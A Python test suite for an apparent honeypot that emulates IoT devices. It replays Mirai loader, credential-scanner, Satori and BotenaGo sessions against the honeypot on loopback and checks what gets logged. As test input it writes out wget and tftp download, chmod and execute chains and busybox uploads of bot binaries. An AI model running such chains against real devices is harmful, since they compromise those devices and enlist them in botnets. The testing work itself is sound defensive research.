"""The Mirai family end to end against the real daemon on 127.0.0.1:
the loader's whole sequence for each persona and each upload method, the
scanner with every credential, a Satori-style and a BotenaGo-style session.
"""
import hashlib
import os
import random
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
import fetchsrv  # noqa: E402
import mirai  # noqa: E402
import tanuki_test as tt  # noqa: E402
from tanuki_test import Conn, Daemon, by_id  # noqa: E402


def _loader_session(d, info):
    user, pw, _ = info["creds"][0]
    ld = mirai.Loader(d.port, user, pw)
    ld.step_ps()
    ld.step_mounts()
    ld.step_prepare()
    endian, machine, arch, first, rest = ld.step_arch()
    # the ELF matches the persona's claimed CPU, and "ELF" never came earlier
    assert endian == int(info["elf_data"]), endian
    assert machine == int(info["elf_machine"]), machine
    assert ld.c.buf.find(b"ELF") == ld.c.buf.find(b"\x7fELF") + 1
    return ld


def _check_loader(persona):
    """The loader's whole sequence, then each upload method the persona
    has (echo always; tftp and wget from loopback servers) and the bot run
    after each: it answers with its start-up line as the loader waits for."""
    info = tt.persona_info(persona)
    dns = fetchsrv.Dns({})
    http = fetchsrv.http_server({})
    tftp = fetchsrv.Tftp({})
    try:
        with Daemon(persona=persona, extra=_fetch_conf(dns.port)) as d:
            ld = _loader_session(d, info)
            method = ld.step_method()
            want = "wget" if "wget" in info["applets"] else (
                "tftp" if "tftp" in info["applets"] else "echo")
            assert method == want, (method, want)
            bot = mirai.fake_bot(int(info["elf_machine"]), int(info["elf_data"]))
            sha = hashlib.sha256(bot).hexdigest()
            http.routes["/bins/mirai." + ld.arch] = ("file", bot)
            tftp.files["mirai." + ld.arch] = bot
            hp = http.server_address[1]

            # echo: the bot rebuilt byte for byte, then run as the loader does
            ld.upload_echo(bot, "dvrHelper")
            out = ld.run("./dvrHelper telnet." + ld.arch)
            assert out.startswith(b"listening tun0\r\n") or b"\nlistening tun0\r\n" in out, out
            methods = ["echo"]
            if "tftp" in info["applets"]:
                mirai.token_cmd(ld.c, "/bin/busybox rm dvrHelper; /bin/busybox tftp -g -l "
                                "dvrHelper -r mirai.%s 127.0.0.1 %d" % (ld.arch, tftp.port))
                out = ld.run("/bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet." + ld.arch)
                assert b"listening tun0\r\n" in out, out
                methods.append("tftp")
            if "wget" in info["applets"]:
                mirai.token_cmd(ld.c, "/bin/busybox rm dvrHelper; /bin/busybox wget "
                                "http://127.0.0.1:%d/bins/mirai.%s -O - > dvrHelper"
                                % (hp, ld.arch))
                out = ld.run("/bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet." + ld.arch)
                assert b"listening tun0\r\n" in out, out
                methods.append("wget")
            ld.close()

            evs = d.wait_events(lambda e: len(by_id(e, "tanuki.exec.emulated"))
                                >= len(methods) and by_id(e, "cowrie.session.closed"))
            assert sha in d.files(), "the bot was not stored"
            caps = [e for e in by_id(evs, "cowrie.session.file_download")
                    if e["shasum"] == sha and e.get("reason") == "exec"]
            assert caps and caps[0]["destfile"].endswith("/dvrHelper"), caps
            emu = by_id(evs, "tanuki.exec.emulated")
            assert len(emu) == len(methods), emu
            for e in emu:
                assert e["class"] == "xor_bot" and e["family"] == "mirai", e
                assert e["text"] == "listening tun0\n", e
                assert e["machine"] == int(info["elf_machine"]), e
                assert e["path"].endswith("/dvrHelper"), e
            cmds = [e["input"] for e in by_id(evs, "cowrie.command.input")]
            assert any(c.startswith("/bin/busybox cat /bin/echo") for c in cmds)
    finally:
        http.shutdown()
        tftp.close()
        dns.close()


def test_loader_xiongmai():
    _check_loader("xiongmai-dvr")


def test_loader_zyxel():
    _check_loader("zyxel-pk5001z")


def test_loader_huawei():
    _check_loader("huawei-hg532")


def test_elf_pause_quirk():
    """The ELF header and the token's answer never arrive in one read: the
    daemon sends the header, pauses ~100 ms, then the rest."""
    info = tt.persona_info("xiongmai-dvr")
    user, pw, _ = info["creds"][0]
    with Daemon() as d:
        c = Conn(d.port)
        mirai.login(c, user, pw)
        mirai.enter_shell(c)
        c.send("/bin/busybox cat /bin/echo; /bin/busybox ECCHI\r\n")
        c.read_until(b"\x7fELF")
        t0 = time.time()
        head = c.read_for(0.05)
        assert b"applet not found" not in head
        c.read_until(b"ECCHI: applet not found")
        assert time.time() - t0 >= 0.05
        c.close()


def test_scanner_every_credential():
    """One credential per connection, as the scanner does; `ncorrect` means
    failure, the token's `applet not found` means a shell."""
    for persona in tt.PERSONAS:
        info = tt.persona_info(persona)
        with Daemon(persona=persona) as d:
            for user, pw, _ in info["creds"]:
                c = Conn(d.port)
                mirai.login(c, user, pw)
                out = mirai.read_prompt(c)
                assert b"ncorrect" not in out, (persona, user, pw, out)
                mirai.enter_shell(c, prompt_seen=True)
                tok = random.choice(["MIRAI", "DMSNA", "HGYQA", "SATORI"])
                out = mirai.token_cmd(c, "", tok)
                assert out.endswith(tok.encode() + b": applet not found"), out
                c.close()
            c = Conn(d.port)
            mirai.login(c, "root", "definitely-wrong")
            c.read_until(b"ncorrect")
            c.close()
            evs = d.wait_events(lambda e: len(by_id(e, "cowrie.login.success"))
                                == len(info["creds"]) and by_id(e, "cowrie.login.failed"))
            ok = {(e["username"], e["password"]) for e in by_id(evs, "cowrie.login.success")}
            assert ok == {(u, p) for u, p, _ in info["creds"]}, ok


def test_satori_style():
    """Satori: log in, check with its token, then cd/wget/chmod/run in one line."""
    with Daemon(persona="huawei-hg532") as d:
        info = tt.persona_info("huawei-hg532")
        user, pw, _ = info["creds"][0]
        c = Conn(d.port)
        mirai.login(c, user, pw)
        mirai.enter_shell(c)
        mirai.token_cmd(c, "", "SATORI")
        c.send("cd /tmp || cd /var/; wget http://127.0.0.1:9/bins/satori.mips -O s; "
               "chmod 777 s; ./s telnet.satori; /bin/busybox SATORI\r\n")
        c.read_until(b"SATORI: applet not found")
        c.close()
        evs = d.wait_events(lambda e: by_id(e, "cowrie.session.closed")
                            and by_id(e, "tanuki.download.request"))
        urls = [e["url"] for e in by_id(evs, "tanuki.download.request")]
        assert "http://127.0.0.1:9/bins/satori.mips" in urls, urls


def test_botenago_style():
    """BotenaGo: a random 5-6 letter token, then a chain of fallbacks."""
    with Daemon(persona="zyxel-pk5001z") as d:
        info = tt.persona_info("zyxel-pk5001z")
        user, pw, _ = info["creds"][0]
        c = Conn(d.port)
        mirai.login(c, user, pw)
        mirai.read_prompt(c)
        tok = "".join(random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(6))
        out = mirai.token_cmd(c, "", tok)
        assert out.endswith((tok + ": applet not found").encode()), out
        c.send("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
               "wget http://127.0.0.1:9/bins.sh; chmod 777 bins.sh; sh bins.sh; "
               "tftp 127.0.0.1 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; "
               "tftp -r tftp2.sh -g 127.0.0.1; chmod 777 tftp2.sh; sh tftp2.sh; "
               "rm -rf bins.sh tftp1.sh tftp2.sh; /bin/busybox %s\r\n" % tok)
        c.read_until((tok + ": applet not found").encode(), 20)
        c.close()
        evs = d.wait_events(lambda e: by_id(e, "cowrie.session.closed"))
        urls = [e["url"] for e in by_id(evs, "tanuki.download.request")]
        assert "http://127.0.0.1:9/bins.sh" in urls, urls
        assert any("tftp2.sh" in u for u in urls), urls


def _fetch_conf(dns_port):
    # loopback only: `public '0'`, 127.0.0.0/8 allowed, a loopback DNS server
    return ["config fetch 'fetch'", "\toption enabled '1'", "\toption public '0'",
            "\toption dns '127.0.0.1:%d'" % dns_port, "\tlist allow '127.0.0.0/8'"]


def _bot(arch, n):
    body = bytearray(mirai.fake_dlr(path=b"/nothing", size=n, seed=len(arch)))
    body[400:420] = b"\0" * 20  # no GET line: not a downloader
    return bytes(body)


def test_loader_fetches_land_in_the_shell():
    """The loader's wget and tftp lines against loopback servers: BusyBox's
    success output, the file in `ls -l` at its size, run, and the sample's
    SHA-256 in the store (huawei-hg532 has both applets)."""
    persona = "huawei-hg532"
    info = tt.persona_info(persona)
    user, pw, _ = info["creds"][0]
    dns = fetchsrv.Dns({})
    http = fetchsrv.http_server({})
    tftp = fetchsrv.Tftp({})
    try:
        with Daemon(persona=persona, extra=_fetch_conf(dns.port)) as d:
            ld = _loader_session(d, info)
            assert ld.step_method() == "wget"
            bot = _bot(ld.arch, 24000)
            tbot = _bot(ld.arch + "t", 9000)
            http.routes["/bins/mirai." + ld.arch] = ("file", bot)
            tftp.files["mirai." + ld.arch] = tbot
            hp = http.server_address[1]
            out = mirai.token_cmd(ld.c, "/bin/busybox wget http://127.0.0.1:%d/bins/mirai.%s "
                                  "-O - > dvrHelper" % (hp, ld.arch))
            assert b"Connecting to 127.0.0.1:%d (127.0.0.1:%d)\r\n" % (hp, hp) in out, out
            assert (b"\r-                    100% |" + b"*" * 31 + b"|%6d  " % len(bot)) in out, out
            assert b"wget:" not in out, out
            out = mirai.token_cmd(ld.c, "/bin/busybox chmod 777 dvrHelper; ls -l dvrHelper")
            assert b"-rwxrwxrwx" in out and b" %d " % len(bot) in out, out
            out = mirai.token_cmd(ld.c, "/bin/busybox tftp -g -l dvrHelper2 -r mirai.%s "
                                  "127.0.0.1 %d" % (ld.arch, tftp.port))
            assert b"tftp:" not in out, out
            out = mirai.token_cmd(ld.c, "ls -l dvrHelper2")
            assert b" %d " % len(tbot) in out, out
            ld.run("./dvrHelper telnet." + ld.arch)
            ld.close()
            files = d.files()
            for body in (bot, tbot):
                sha = hashlib.sha256(body).hexdigest()
                assert files.get(sha) == body, sha
            want = {hashlib.sha256(b).hexdigest() for b in (bot, tbot)}
            d.wait_events(lambda e: want <= {x.get("shasum") for x in
                                             by_id(e, "cowrie.session.file_download")})
    finally:
        http.shutdown()
        tftp.close()
        dns.close()


def test_dlr_runs_and_fetches_its_bot():
    """The echo method as Mirai's loader does it on the ARM persona: the
    downloader (127.0.0.1 and the test server's port in its code) rebuilt
    as upnp and run: MIRAI, a real fetch of its second stage (one request
    although the capture started it too), FIN, then dvrHelper — the bot it
    wrote — answers `listening tun0`. A downloader whose server is closed
    says NIF."""
    persona = "xiongmai-dvr"
    info = tt.persona_info(persona)
    dns = fetchsrv.Dns({})
    http = fetchsrv.http_server({})
    hp = http.server_address[1]
    bot = mirai.fake_bot(40, 1)
    http.routes["/bins/mirai.arm"] = ("file", bot)
    dlr = mirai.fake_dlr(path=b"/bins/mirai.arm", port=hp)
    dead = mirai.fake_dlr(path=b"/bins/mirai.arm", port=9, seed=11)
    try:
        with Daemon(persona=persona, extra=_fetch_conf(dns.port)) as d:
            ld = _loader_session(d, info)
            ld.upload_echo(dlr)
            out = ld.run("/bin/busybox chmod 777 upnp; ./upnp; ./dvrHelper telnet.arm")
            assert out.endswith(b"\nMIRAI\r\nFIN\r\nlistening tun0\r\nIHCCE: applet not found"), out
            assert http.hits == ["/bins/mirai.arm"], http.hits
            ld.upload_echo(dead, "upnp2")
            out = ld.run("/bin/busybox chmod 777 upnp2; ./upnp2")
            assert out.endswith(b"\nMIRAI\r\nNIF\r\nIHCCE: applet not found"), out
            ld.close()
            sha = hashlib.sha256(bot).hexdigest()
            evs = d.wait_events(lambda e: len(by_id(e, "tanuki.exec.emulated")) >= 3)
            assert d.files().get(sha) == bot
            emu = by_id(evs, "tanuki.exec.emulated")
            assert [(e["class"], e["text"]) for e in emu] == [
                ("downloader", "MIRAI\n"), ("xor_bot", "listening tun0\n"),
                ("downloader", "MIRAI\n")], emu
            assert emu[0]["family"] == "mirai_dlr" and emu[0]["machine"] == 40, emu
            got = [e for e in by_id(evs, "cowrie.session.file_download") if e["shasum"] == sha]
            assert len(got) == 1 and got[0]["parent_shasum"] == hashlib.sha256(dlr).hexdigest()
    finally:
        http.shutdown()
        dns.close()


def test_other_cpu_read_as_a_script():
    """A MIPS persona runs an ARM binary: the kernel says ENOEXEC and ash
    reads the file as a script (NULs deleted), as BusyBox does; the line
    goes on. Logged as wrong_arch with the binary's machine."""
    persona = "huawei-hg532"
    info = tt.persona_info(persona)
    bot = mirai.fake_bot(40, 1)
    with Daemon(persona=persona) as d:
        ld = _loader_session(d, info)
        ld.upload_echo(bot, "x")
        out = ld.run("/bin/busybox chmod 777 x; ./x; echo rc=$?")
        ld.close()
        assert b"listening tun0" not in out, out
        # real ash 1.35 (build/oracle, this file) prints exactly this
        assert b'./x: line 1: syntax error: unexpected word (expecting ")")\r\nrc=2\r\n' \
            in out, out
        evs = d.wait_events(lambda e: by_id(e, "tanuki.exec.emulated"))
        e = by_id(evs, "tanuki.exec.emulated")[0]
        assert e["class"] == "wrong_arch" and e["machine"] == 40 and e["text"] == "", e
